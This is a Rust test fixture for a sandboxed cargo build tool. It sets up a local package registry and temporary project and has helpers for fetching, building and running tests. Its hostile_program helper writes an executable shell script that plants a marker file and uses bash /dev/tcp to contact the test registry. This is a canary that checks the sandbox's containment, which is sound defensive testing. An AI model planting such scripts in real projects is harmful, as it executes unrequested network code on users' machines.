//! A project that depends on packages of a registry, an empty `CARGO_HOME`, and files outside.

use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use base::Ctx;
use graftage_build::warm::TargetMount;
use graftage_build::{
    CargoEnv, CargoError, Fetched, FreshView, HostEnv, Prepared, ProjectFiles, TestReport, Trust,
    fetch, locate_toolchain, prepare,
};
use sandbox::{Layers, Level, Mount, Sandbox, View};

use crate::registry::Registry;

pub(crate) struct World {
    pub(crate) ctx: Ctx,
    pub(crate) registry: Registry,
    pub(crate) env: CargoEnv,
    folder: tempfile::TempDir,
}

impl World {
    /// A project that depends on `left` 1.0.0, which the registry has.
    pub(crate) fn new() -> Self {
        Self::with(testkit::inner::sandbox())
    }

    /// As on a system without namespaces: Landlock and seccomp only.
    pub(crate) fn without_mounts() -> Self {
        let layers = Layers { namespaces: false, ..Layers::default() };
        Self::with(Sandbox::with_layers(testkit::inner::path(), layers))
    }

    fn with(sandbox: Sandbox) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let at = |name: &str| folder.path().canonicalize().unwrap().join(name);
        for name in ["p/src", "p/.cargo", "cargo", "home"] {
            std::fs::create_dir_all(at(name)).unwrap();
        }
        let ctx = testkit::ctx();
        let host = host(at("home"), at("cargo"));
        let (trust, require) = (Trust::default(), Level::Standard);
        let toolchain = locate_toolchain(&ctx, &sandbox, &host, &at("p"), &trust, require).unwrap();
        let cache = at("cache");
        let registry = Registry::start();
        let trust = trust.with_registries([registry.index()]);
        let env = CargoEnv {
            sandbox,
            host,
            toolchain,
            require,
            trust,
            cache,
            offline: false,
            jobs: None,
        };
        let world = Self { ctx, registry, env, folder };
        world.registry.publish("left", "1.0.0");
        world.write("p/src/lib.rs", "");
        world.depend("left = { version = \"1.0.0\", registry = \"test\" }");
        world.configure("");
        world
    }

    pub(crate) fn at(&self, name: &str) -> PathBuf {
        self.folder.path().canonicalize().unwrap().join(name)
    }

    pub(crate) fn root(&self) -> PathBuf {
        self.at("p")
    }

    pub(crate) fn write(&self, name: &str, text: &str) {
        std::fs::create_dir_all(self.at(name).parent().unwrap()).unwrap();
        std::fs::write(self.at(name), text).unwrap();
    }

    /// Writes the project's manifest with these dependencies.
    pub(crate) fn depend(&self, dependencies: &str) {
        self.write(
            "p/Cargo.toml",
            &format!(
                "[package]\nname = \"p\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[workspace]\n\
                 [dependencies]\n{dependencies}\n"
            ),
        );
    }

    /// Writes the project's configuration with the registry `test` and `config`.
    pub(crate) fn configure(&self, config: &str) {
        let registry = format!("[registries.test]\nindex = \"{}\"\n", self.registry.index());
        self.write("p/.cargo/config.toml", &format!("{registry}{config}"));
    }

    /// A program of the project that leaves a mark in the project, requests `/evil` from the
    /// registry, and then does what the program that it replaces does.
    pub(crate) fn hostile_program(&self, name: &str, then: &str) {
        // Not every shell can access the network; the mark suffices then.
        let script = format!(
            "#!/bin/sh\necho ran >> {mark}\nbash -c \"exec 3<>/dev/tcp/127.0.0.1/{port} && printf \
             'GET /evil HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3\" > {mark}.answer 2> /dev/null\n{then}\n",
            mark = self.mark().display(),
            port = self.registry.port(),
        );
        self.write(name, &script);
        let mode = std::fs::Permissions::from_mode(0o755);
        std::fs::set_permissions(self.at(name), mode).unwrap();
    }

    fn mark(&self) -> PathBuf {
        self.at("p/ran")
    }

    /// Whether a hostile program ran.
    pub(crate) fn was_struck(&self) -> bool {
        self.mark().exists() || self.registry.requests().iter().any(|path| path == "/evil")
    }

    /// Removes what the control left.
    pub(crate) fn forget(&self) {
        let _ = std::fs::remove_file(self.mark());
    }

    /// A writable view of the project, so that a mark would be visible.
    pub(crate) fn view(&self) -> View {
        View { mounts: vec![Mount::Writable { host: self.root(), inside: self.root() }] }
    }

    /// A target directory that a run writes.
    pub(crate) fn target(&self) -> TargetMount {
        for name in ["cache/target", "scratch/home", "scratch/tmp"] {
            std::fs::create_dir_all(self.at(name)).unwrap();
        }
        let writable = |host: PathBuf| Mount::Writable { inside: host.clone(), host };
        TargetMount {
            inside: self.at("cache/target"),
            mounts: vec![writable(self.at("cache/target")), writable(self.at("scratch"))],
            home: self.at("scratch/home"),
            tmp: self.at("scratch/tmp"),
            guard: None,
        }
    }

    /// Builds and runs the tests.
    pub(crate) fn test(&self, command: &graftage_build::Command) -> TestReport {
        self.test_at(self.root(), command)
    }

    /// The same of a project in another folder.
    pub(crate) fn test_at(&self, root: PathBuf, command: &graftage_build::Command) -> TestReport {
        let mounts = vec![Mount::Writable { host: root.clone(), inside: root.clone() }];
        let (view, target) = (View { mounts }, self.target());
        let report =
            graftage_build::run(&self.ctx, &self.env, &view, &root, &target, command, &mut |_| {});
        let report = report.unwrap();
        assert!(report.built, "{:?} {:?}", report.failure, report.diagnostics);
        report.tests.unwrap()
    }

    /// Downloads with graftage.
    pub(crate) fn fetch(&self) -> Result<Fetched, CargoError> {
        let timeout = Duration::from_secs(120);
        let (view, root) = (self.view(), self.root());
        let files = ProjectFiles::of_tree(&root);
        fetch(&self.ctx, &self.env, FreshView::new(&view, &root, &files), timeout)
    }

    /// Prepares the packages of the project as a proof does, before anything of it runs.
    pub(crate) fn prepare(&self) -> Prepared {
        let (view, root) = (self.view(), self.root());
        let files = ProjectFiles::of_tree(&root);
        let fresh = FreshView::new(&view, &root, &files);
        prepare(&self.ctx, &self.env, fresh, Duration::from_secs(120)).unwrap()
    }

    /// Downloads with plain cargo, with its own `CARGO_HOME`; the control of an attack.
    pub(crate) fn plain_cargo(&self) -> Output {
        self.plain_cargo_with(&["fetch"])
    }

    pub(crate) fn plain_cargo_with(&self, args: &[&str]) -> Output {
        let mut path = self.env.toolchain.sysroot.join("bin").into_os_string();
        // The linker is one of the system's programs.
        path.push(":/usr/bin:/bin");
        Command::new(&self.env.toolchain.cargo)
            .args(args)
            .current_dir(self.root())
            .env_clear()
            .env("PATH", path)
            .env("HOME", self.at("home"))
            .env("CARGO_HOME", self.at("control"))
            // What the registry does not serve is requested once, not again after seconds.
            .env("CARGO_NET_RETRY", "0")
            .output()
            .unwrap()
    }

    /// The files of the user's registry, sorted; sources are named by their folder.
    pub(crate) fn registry_files(&self) -> Vec<String> {
        let mut files: Vec<String> = testkit::TreeDigest::of(&self.at("cargo"))
            .entries
            .into_iter()
            .filter(|(_, entry)| entry.kind != "folder")
            .map(|(name, _)| name)
            .collect();
        files.iter_mut().for_each(|name| *name = without_hash(name));
        files.sort();
        files
    }
}

/// `registry/cache/127.0.0.1-0123456789abcdef/…` without what depends on the port.
fn without_hash(path: &str) -> String {
    let parts = path.split('/').map(|part| match part.rsplit_once('-') {
        Some(("127.0.0.1", _)) => "SOURCE",
        _ => part,
    });
    parts.collect::<Vec<_>>().join("/")
}

/// The machine's own toolchain, with another home.
fn host(home: PathBuf, cargo_home: PathBuf) -> HostEnv {
    let var = |name: &str| std::env::var_os(name);
    let real = PathBuf::from(var("HOME").unwrap_or_else(|| "/".into()));
    HostEnv {
        path: var("PATH").unwrap_or_default(),
        rustup_home: var("RUSTUP_HOME").map_or_else(|| real.join(".rustup"), PathBuf::from),
        cargo_home,
        home,
        toolchain: None,
    }
}

/// Digest of everything below a folder.
pub(crate) fn digest(path: &Path) -> testkit::TreeDigest {
    testkit::TreeDigest::of(path)
}
